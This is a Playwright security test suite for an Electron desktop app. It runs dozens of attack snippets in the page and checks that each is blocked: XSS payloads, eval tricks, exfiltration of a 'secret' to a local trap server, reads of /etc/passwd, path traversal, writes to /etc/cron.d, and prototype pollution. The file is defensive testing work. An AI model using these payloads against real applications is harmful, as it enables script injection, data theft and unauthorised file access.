/**
 * The page has been taken over: every attack below runs as script inside of it, which no scenario
 * should ever get to do. Each is named, and each gets nothing: no code from elsewhere, no way out, no
 * packet sent, nothing from the main process that the learner could not have asked for.
 */
import { createSocket, type Socket } from 'node:dgram';
import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ElectronApplication, Page } from '@playwright/test';
import { Desk, expect, test } from './desktop.ts';

let desk: Desk;
let app: ElectronApplication;
let page: Page;
let home = '';
/** Waits for packets; each is a failure. */
let trap: {
  readonly web: Server;
  readonly udp: Socket;
  readonly url: string;
  readonly port: number;
};
let caught: string[] = [];

/** What an attack may leave behind when it works. */
declare global {
  interface Window {
    pwned?: unknown;
  }
}

test.beforeAll(async ({ built }) => {
  const web = createServer((request, response) => {
    caught.push(`http ${request.url}`);
    response.setHeader('access-control-allow-origin', '*').end('window.pwned = "fetched"');
  });
  web.on('connection', () => caught.push('connection'));
  const udp = createSocket('udp4');
  udp.on('message', () => caught.push('packet'));
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
  const { port } = web.address() as AddressInfo;
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  trap = { web, udp, url: `http://127.0.0.1:${port}`, port };
  desk = new Desk(mkdtempSync(join(tmpdir(), 'lab-hostile-')), built);
  ({ app, page } = await desk.open());
  home = page.url();
});

test.afterAll(async () => {
  await desk.end();
  trap.web.close();
  trap.udp.close();
});

test.beforeEach(() => {
  caught = [];
});

/** After every attack the app stands where it stood, and nobody heard of it. */
test.afterEach(async () => {
  expect(caught).toEqual([]);
  expect(page.url()).toBe(home);
  expect(app.windows()).toHaveLength(1);
  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
  expect(await page.evaluate(() => window.desktop!.info())).toMatchObject({ ok: true });
});

/** Some promises are never kept, which is as good a refusal as any. */
const PATIENCE_MS = 4000;

/** Runs attacks in the page; what each gave, or the name of the error that stopped it. */
function attack(attacks: Record<string, string>): Promise<Record<string, string>> {
  const body = Object.entries(attacks).map(
    ([name, code]) => `
      try {
        const late = new Promise((_, no) => setTimeout(() => no(new Error()), ${PATIENCE_MS}));
        out[${JSON.stringify(name)}] = String(await Promise.race([late, (async () => { ${code} })()]));
      } catch (error) { out[${JSON.stringify(name)}] = error.name; }`,
  );
  // The developer tools may do what a page may not, but only until their call first waits.
  return page.evaluate(`(async () => {
    await new Promise((go) => setTimeout(go, 0));
    const out = {}; ${body.join('\n')}; return out;
  })()`);
}

const every = (results: Record<string, string>, expected: string) =>
  expect(Object.entries(results).filter(([, got]) => got !== expected)).toEqual([]);

test('scripts: written into the page, as text, as an attribute, from data or from elsewhere', async () => {
  const results = await attack({
    innerHTML: `document.body.innerHTML = '<img src=x onerror="window.pwned=1">';`,
    insertAdjacent: `document.body.insertAdjacentHTML('beforeend', '<script>window.pwned=1</script>');`,
    write: `document.write('<script>window.pwned=1</script>');`,
    scriptText: `const s = document.createElement('script'); s.textContent = 'window.pwned=1'; document.body.append(s);`,
    scriptUrl: `const s = document.createElement('script'); s.src = '${trap.url}/x.js'; document.body.append(s);`,
    scriptData: `const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=1'; document.body.append(s);`,
    attribute: `const b = document.createElement('b'); b.setAttribute('onclick', 'window.pwned=1'); document.body.append(b); b.click(); b.remove();`,
    parser: `new DOMParser().parseFromString('<b onclick=1>', 'text/html');`,
    range: `document.createRange().createContextualFragment('<script>window.pwned=1</script>');`,
    srcdoc: `document.createElement('iframe').srcdoc = '<script>parent.pwned=1</script>';`,
  });
  every(results, 'TypeError');
});

test('code from text: eval, Function, timers, imports and workers', async () => {
  const results = await attack({
    eval: `(0, eval)('window.pwned=1');`,
    function: `new Function('window.pwned=1')();`,
    asyncFunction: `await (Object.getPrototypeOf(async () => 1).constructor)('window.pwned=1')();`,
    timer: `setTimeout('window.pwned=1', 0);`,
    importData: `await import('data:text/javascript,window.pwned=1');`,
    importAway: `await import('${trap.url}/x.js');`,
    worker: `new Worker('data:text/javascript,postMessage(1)');`,
    sharedWorker: `new SharedWorker('data:text/javascript,1');`,
    wasm: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`,
  });
  for (const [name, got] of Object.entries(results)) {
    expect(['TypeError', 'EvalError', 'CompileError'], name).toContain(got);
  }
});

test('a policy of its own: no second way to make text into code', async () => {
  const results = await attack({
    another: `trustedTypes.createPolicy('mine', { createHTML: (x) => x });`,
    again: `trustedTypes.createPolicy('default', { createHTML: (x) => x, createScript: (x) => x });`,
  });
  every(results, 'TypeError');
});

test('javascript: links, by click and by navigation', async () => {
  await attack({
    link: `const a = document.createElement('a'); a.href = 'javascript:window.pwned=1'; document.body.append(a); a.click(); a.remove();`,
    form: `const f = document.createElement('form'); f.action = 'javascript:window.pwned=1'; document.body.append(f); f.submit(); f.remove();`,
    location: `location.href = 'javascript:window.pwned=1';`,
    open: `window.open('javascript:opener.pwned=1');`,
  });
});

test('frames: none of them is given the bridge or another page', async () => {
  const results = await attack({
    blank: `const f = document.createElement('iframe'); document.body.append(f); const t = typeof f.contentWindow.desktop; f.remove(); return t;`,
    own: `const f = document.createElement('iframe'); f.src = location.href; document.body.append(f);
      await new Promise((r) => { f.onload = r; setTimeout(r, 1500); });
      let t; try { t = typeof f.contentWindow.desktop; } catch { t = 'undefined'; } f.remove(); return t;`,
    away: `const f = document.createElement('iframe'); f.src = '${trap.url}/'; document.body.append(f);
      await new Promise((r) => { f.onload = r; setTimeout(r, 1500); });
      let t; try { t = typeof f.contentWindow.desktop; } catch { t = 'undefined'; } f.remove(); return t;`,
    object: `const o = document.createElement('object'); o.data = '${trap.url}/'; document.body.append(o); o.remove();`,
    embed: `const e = document.createElement('embed'); e.src = location.href; document.body.append(e);`,
    webview: `const w = document.createElement('webview'); w.src = '${trap.url}/'; document.body.append(w); const t = typeof w.getWebContentsId; w.remove(); return t;`,
  });
  // Where a URL of a plug-in is asked for, Trusted Types may refuse it first.
  for (const [name, got] of Object.entries(results)) {
    expect(['undefined', 'TypeError'], name).toContain(got);
  }
});

test('navigation: to the net, to a file, to data, by refresh, base or form', async () => {
  await attack({
    net: `location.href = '${trap.url}/';`,
    file: `location.href = 'file:///etc/passwd';`,
    data: `location.href = 'data:text/html,<script>1</script>';`,
    refresh: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${trap.url}/'; document.head.append(m);`,
    base: `const b = document.createElement('base'); b.href = '${trap.url}/'; document.head.append(b);`,
    form: `const f = document.createElement('form'); f.action = '${trap.url}/'; f.method = 'post'; document.body.append(f); f.submit(); f.remove();`,
    otherOfOurs: `location.href = new URL('assets/', location.href).href;`,
  });
});

test('windows: opened by script, by link, by form', async () => {
  const results = await attack({
    open: `return window.open('${trap.url}/');`,
    own: `return window.open(location.href);`,
    blank: `return window.open('about:blank');`,
  });
  for (const got of Object.values(results)) expect(['null', '[object Window]']).toContain(got);
  await attack({
    link: `const a = document.createElement('a'); a.target = '_blank'; a.href = '${trap.url}/'; document.body.append(a); a.click(); a.remove();`,
  });
  await expect.poll(() => app.windows().length).toBe(1);
});

test('messengers: whatever can carry a secret out carries nothing', async () => {
  await attack({
    fetch: `await fetch('${trap.url}/?secret');`,
    xhr: `const x = new XMLHttpRequest(); x.open('GET', '${trap.url}/x'); x.send();`,
    beacon: `return navigator.sendBeacon('${trap.url}/', 'secret');`,
    image: `new Image().src = '${trap.url}/x.png';`,
    socket: `new WebSocket('ws://127.0.0.1:${trap.port}/');`,
    events: `new EventSource('${trap.url}/');`,
    style: `document.body.style.backgroundImage = 'url(${trap.url}/x.png)';`,
    sheet: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${trap.url}/x.css'; document.head.append(l);`,
    font: `await new FontFace('x', 'url(${trap.url}/x.woff2)').load();`,
    prefetch: `for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload']) {
      const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '${trap.url}/'; document.head.append(l); }`,
    media: `new Audio('${trap.url}/x.mp3').load();`,
    peer: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.port}' }] });
      p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
      await new Promise((r) => { p.onicegatheringstatechange = () => p.iceGatheringState === 'complete' && r(); setTimeout(r, 1500); });
      p.close();`,
    reading: `await fetch('file:///etc/passwd');`,
  });
});

test('permissions: a camera, a place, a device, a notice', async () => {
  const results = await attack({
    notice: `return Notification.requestPermission();`,
    place: `return new Promise((r) => navigator.geolocation.getCurrentPosition(() => r('given'), () => r('denied')));`,
    camera: `return navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => 'given', () => 'denied');`,
    screen: `return navigator.mediaDevices.getDisplayMedia().then(() => 'given', () => 'denied');`,
    clipboard: `return navigator.clipboard.readText().then(() => 'given', () => 'denied');`,
    midi: `return navigator.requestMIDIAccess().then(() => 'given', () => 'denied');`,
    usb: `return navigator.usb === undefined ? 'denied' : navigator.usb.requestDevice({ filters: [] }).then(() => 'given', () => 'denied');`,
  });
  for (const [name, got] of Object.entries(results)) {
    expect(['denied', 'Error', 'TypeError'], name).toContain(got);
  }
});

test('a dropped HTML page is looked at as text and never becomes the page', async () => {
  await page.evaluate(() => {
    const html = '<script>window.pwned = 1; opener.pwned = 1</script><h1>free coins</h1>';
    const transfer = new DataTransfer();
    transfer.items.add(new File([html], 'coins.html', { type: 'text/html' }));
    const drop = (type: string) =>
      new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true });
    const over = drop('dragover');
    const dropped = drop('drop');
    document.body.dispatchEvent(over);
    document.body.dispatchEvent(dropped);
    if (!over.defaultPrevented || !dropped.defaultPrevented) Object.assign(window, { pwned: 1 });
  });
  await expect(page.getByText('coins.html').first()).toBeVisible();
  expect(await page.getByRole('heading', { name: 'free coins' }).count()).toBe(0);
});

test('a scenario whose words are HTML, links and bidi tricks shows them as words or is refused', async () => {
  const file = join(desk.place, 'evil.scenario.json');
  writeFileSync(
    file,
    JSON.stringify({ title: '<img src=x onerror="window.pwned=1">', summary: '[a](javascript:1)' }),
  );
  await app.evaluate(({ dialog }, path) => {
    dialog.showOpenDialog = async () => ({ canceled: false, filePaths: [path] });
  }, file);
  await page.keyboard.press('Control+o');
  await expect(page.getByText('evil.scenario.json').first()).toBeVisible();
  expect(await page.locator('img[src="x"], a[href^="javascript:"]').count()).toBe(0);
});

test('forged calls: paths, prototypes, giants, functions and things that are not data', async () => {
  const refusals = await page.evaluate(async () => {
    const raw = window.desktop as unknown as Record<string, (...a: unknown[]) => Promise<unknown>>;
    const meta = JSON.parse('{"id":"run","__proto__":{"admin":true}}') as unknown;
    const loop: Record<string, unknown> = {};
    loop['self'] = loop;
    const tries: (() => Promise<unknown>)[] = [
      () => raw['readRun']!('../../../etc/passwd'),
      () => raw['readRun']!('..\\..\\windows'),
      () => raw['readRun']!('run\u0000.json'),
      () => raw['readRun']!({ toString: () => 'run' }),
      () => raw['deleteRun']!('*'),
      () => raw['createRun']!(meta, ''),
      () => raw['writeSettings']!(JSON.parse('{"constructor":{"prototype":{"x":1}}}')),
      () => raw['writeSettings']!(loop),
      () => raw['writeSettings']!(() => 1),
      () => raw['saveTextFile']!('/etc/cron.d/x', 'x'.repeat(10 * 1024 * 1024 + 1)),
      () => raw['openTextFile']!('/etc/passwd'),
      () => raw['noteProblem']!('x'.repeat(9000)),
      () => raw['printPage']!(''),
    ];
    const answers: string[] = [];
    for (const one of tries) {
      try {
        const answer = (await one()) as { ok: boolean; error?: { code: string } };
        answers.push(answer.ok ? 'DONE' : (answer.error?.code ?? ''));
      } catch {
        answers.push('not sent');
      }
    }
    return answers;
  });
  expect(refusals).not.toContain('DONE');
  expect(new Set(refusals)).toEqual(new Set(['bad-request', 'too-large', 'not sent']));
  const polluted = await app.evaluate(
    () => Reflect.get({}, 'admin') ?? Reflect.get({}, 'x') ?? null,
  );
  expect(polluted).toBeNull();
  expect(readdirSync(join(desk.place, 'data', 'runs'))).toEqual(['writer.lock']);
});

test('prototype tricks: a poisoned page learns nothing of the other side of the bridge', async () => {
  const loot = await page.evaluate(async () => {
    const taken: unknown[] = [];
    const restore: (() => void)[] = [];
    const poison = (on: object, key: string): void => {
      const old = Reflect.get(on, key) as (...args: unknown[]) => unknown;
      Reflect.set(on, key, function (this: unknown, ...args: unknown[]) {
        taken.push(this, ...args);
        return Reflect.apply(old, this, args);
      });
      restore.push(() => void Reflect.set(on, key, old));
    };
    poison(Promise.prototype, 'then');
    poison(Function.prototype, 'call');
    poison(Array.prototype, 'map');
    poison(Map.prototype, 'get');
    Object.defineProperty(Object.prototype, 'sender', {
      configurable: true,
      get() {
        taken.push(this);
        return undefined;
      },
    });
    await window.desktop!.info();
    await window.desktop!.listRuns();
    delete (Object.prototype as { sender?: unknown }).sender;
    for (const undo of restore) undo();
    const isBridge = (value: unknown): boolean =>
      value !== null &&
      typeof value === 'object' &&
      ['invoke', 'ipcRenderer', 'senderId', 'require'].some((key) => key in value);
    return taken.filter(isBridge).length;
  });
  expect(loot).toBe(0);
});

test('a bridge of its own: it can be neither changed nor hidden', async () => {
  const results = await attack({
    set: `'use strict'; window.desktop.info = () => { window.pwned = 1; }; return window.desktop.info.toString().includes('pwned');`,
    define: `Object.defineProperty(window, 'desktop', { value: {} });`,
    clobber: `const f = document.createElement('form'); f.id = 'desktop'; document.body.append(f); const t = typeof window.desktop.info; f.remove(); return t;`,
    constructor: `return typeof window.desktop.info.constructor('return process')();`,
  });
  expect(results).toEqual({
    set: 'TypeError',
    define: 'TypeError',
    clobber: 'function',
    constructor: 'EvalError',
  });
});

test('another window with the same bridge is a stranger to every call', async () => {
  const opened = app.waitForEvent('window');
  await app.evaluate(async ({ app, BrowserWindow }) => {
    const ours = BrowserWindow.getAllWindows()[0]!;
    const preload = `${app.getAppPath()}/dist/electron/preload.cjs`;
    const other = new BrowserWindow({ show: false, webPreferences: { preload } });
    await other.loadURL(ours.webContents.getURL());
  });
  const other = await opened;
  await other.waitForFunction(() => window.desktop !== undefined);
  const answers = await other.evaluate(() =>
    Promise.all([
      window.desktop!.info(),
      window.desktop!.listRuns(),
      window.desktop!.resetStation(),
      window.desktop!.diagnostics(),
    ]),
  );
  for (const answer of answers) {
    expect(answer).toEqual({ ok: false, error: { code: 'bad-request', detail: 'sender' } });
  }
  await other.close();
});
